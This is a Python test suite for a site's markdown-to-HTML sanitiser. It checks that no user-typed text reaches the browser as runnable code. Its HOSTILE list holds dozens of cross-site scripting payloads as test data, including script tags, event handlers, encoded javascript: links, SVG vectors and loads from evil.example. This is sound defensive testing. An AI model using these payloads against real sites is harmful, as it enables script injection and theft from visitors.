"""Nothing that anybody types becomes something a browser runs."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles.markdown.parse import parse
from articles.markdown.preview import preview_html
from articles.markdown.render import ATTRIBUTES, TAGS, Known, clean, sections
from articles.markdown.slots import Filler, PageTarget, PlaceWords
from articles.text import SLOT_CLOSE, SLOT_OPEN, normalise
from tests import factories as make

pytestmark = pytest.mark.once

IN, OUT = SLOT_OPEN, SLOT_CLOSE
SHA = "a" * 64
EVIL = "\"'><img src=x onerror=alert(1)>"
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](y)',
    '[x](https://e.org "a\\" onmouseover=alert(1) b")',
    '[x](https://e.org ""onmouseover=alert(1)")',
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    '<math><mi xlink:href="data:x,alert(1)">x</mi></math>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(//evil.example)">x</p>',
    "<link rel=stylesheet href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=//evil.example/>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "`<img src=x onerror=alert(1)>`",
    '```"><script>alert(1)</script>\nx\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |",
    "a[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: b",
    "## <img src=x onerror=alert(1)> {#about}",
    '## x {#"onload=alert(1)}',
    f"[[conditions/pad|{EVIL}]]",
    f"[[{EVIL}]]",
    f"[[conditions/pad|a|b{EVIL}]]",
    f"[@one]{EVIL}",
    "{{emergency-number}}<script>alert(1)</script>",
    "{{<script>}}",
    f"::: care-card emergency{EVIL}\nx\n:::",
    f"::: {EVIL}\nx\n:::",
    f"::: picture {SHA} {EVIL}\n:::",
    f"::: picture {EVIL}\n:::",
    f"::: picture {SHA}.svg#{EVIL}\n:::",
    f"{IN}page|conditions/pad|{EVIL}|x{OUT}",
    f"{IN}page|conditions/pad{IN}cite|one{OUT}|{EVIL}{OUT}",
    f"{IN}{OUT}",
    f"{IN}place|{EVIL}{OUT}",
    f"{IN}card|{EVIL}{OUT}",
    f"{IN}page{OUT}",
    "&#xE000;page|conditions/pad|<img src=x onerror=alert(1)>|x&#xE001;",
    "&#57344;page&#57345;",
    "&#xE000;cite&#xE001;",
    '[x](https://e.org "&#xE000;page|conditions/pad|<img src=x onerror=alert(1)>|x&#xE001;")',
    '[x](https://e.org "&#xE000;place|emergency-number&#xE001;")',
    "[x](https://e.org/&#xE000;place|emergency-number&#xE001;)",
    f"[[conditions/pad|{IN}place|emergency-number{OUT}]]",
    "[[conditions/pad|&#xE000;place|emergency-number&#xE001;]]",
    f"[[conditions/pad|[@one] {{{{emergency-number}}}} {EVIL}]]",
]

KNOWN = Known(
    titles={"conditions/pad": EVIL},
    sources=frozenset({"one"}),
    pictures={SHA: {"alt": EVIL, "credit": EVIL, "extension": "png", "width": 4, "height": 2}},
)
ALLOWED_ATTRIBUTES = set().union(*ATTRIBUTES.values()) | {"class"}


class _Judge(HTMLParser):
    """Notes every element and attribute that has no place on a page of ours."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.crimes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.crimes.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES:
                self.crimes.append(f"<{tag} {name}>")
            address = "".join((value or "").split()).lower()
            scheme = address.split("/")[0].split("#")[0].split("?")[0].partition(":")
            if name in ("href", "src") and scheme[1] and scheme[0] not in ("https", "http", "mailto", "tel"):
                self.crimes.append(f"{name}={value}")
            if name == "src" and not address.startswith("/media/pictures/"):
                self.crimes.append(f"src={value}")

    def handle_comment(self, data: str) -> None:
        self.crimes.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.crimes.append("declaration")


def crimes_in(html: str) -> list[str]:
    """What a browser might run or load."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.crimes


def page_of(text: str, title: str = EVIL) -> str:
    """The filled HTML of a text, headings included as templates print them."""
    filler = Filler(
        {"conditions/pad": PageTarget(title, "/conditions/pad/")}, PlaceWords("999", EVIL, "111", EVIL, EVIL)
    )
    return "".join(filler.fill(part.html) for part in sections(parse(text, where="body"), KNOWN))


def test_the_judge_sees_a_crime() -> None:
    for html in ("<script>", '<p onclick="x">', '<a href="javascript:x">', '<img src="//evil">', '<p style="x">'):
        assert crimes_in(html)


def test_there_are_enough_hostile_texts() -> None:
    assert len(set(HOSTILE)) >= 40


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_text_does_nothing(text: str) -> None:
    html = page_of(text)
    assert crimes_in(html) == []
    assert SLOT_OPEN not in html
    assert SLOT_CLOSE not in html
    assert crimes_in(page_of(normalise(text))) == []


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_cleaning_what_was_cleaned_changes_nothing(text: str) -> None:
    for html in (text, *(part.html for part in sections(parse(text, where="body"), KNOWN))):
        assert clean(clean(html)) == clean(html)


PIECES = [
    *"<>\"'&;=/ \n:|[]@{}#`*-!\\abeonsx",
    IN,
    OUT,
    "[[",
    "]]",
    ":::",
    "{{",
    "[@one]",
    "&#xE000;",
    "<img ",
    "javascript:",
]
TROUBLE = st.lists(st.sampled_from(PIECES), max_size=50).map("".join)


@given(TROUBLE)
def test_no_mixture_of_marks_does_harm(text: str) -> None:
    html = page_of(text)
    assert crimes_in(html) == []
    assert clean(clean(html)) == clean(html)


@given(st.text(max_size=60))
def test_cleaning_any_text_twice_is_cleaning_it_once(text: str) -> None:
    assert clean(clean(text)) == clean(text)


@pytest.mark.django_db
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_the_preview_is_as_safe_as_the_page(text: str) -> None:
    assert [crime for crime in crimes_in(preview_html(text)) if crime != "<h2>"] == []


@pytest.mark.django_db
def test_every_field_of_a_page_may_be_hostile(client) -> None:
    make.source("one", title=EVIL, publisher=EVIL)
    sign = make.live_page("urgent_sign", title=EVIL, fields={"card": EVIL, "do_now": [EVIL]})
    page = make.live_page(
        "condition",
        title=EVIL,
        medical_name=EVIL,
        summary=EVIL,
        lay_names=[EVIL],
        body=f"{EVIL} [@one]\n\n## {EVIL}\n\n{EVIL}",
        fields={"seek_care": [EVIL]},
        links={"urgent_signs": [make.link(sign, f"{EVIL} [@one]")]},
    )
    for path in (
        make.path_of(page),
        make.path_of(sign),
        "/",
        "/a-z/",
        "/conditions/",
        "/urgent/",
        f"/search/?q={EVIL}",
    ):
        text = client.get(path).text
        assert "<img src=x" not in text
        ours = re.findall(r'<script type="(?:module" src="/static/js/[a-z.0-9]+"|application/ld\+json")>', text)
        assert text.count("<script") == len(ours)
    assert "</script><" not in client.get(make.path_of(page)).text.split("ld+json", 1)[1].split("</script>")[0]
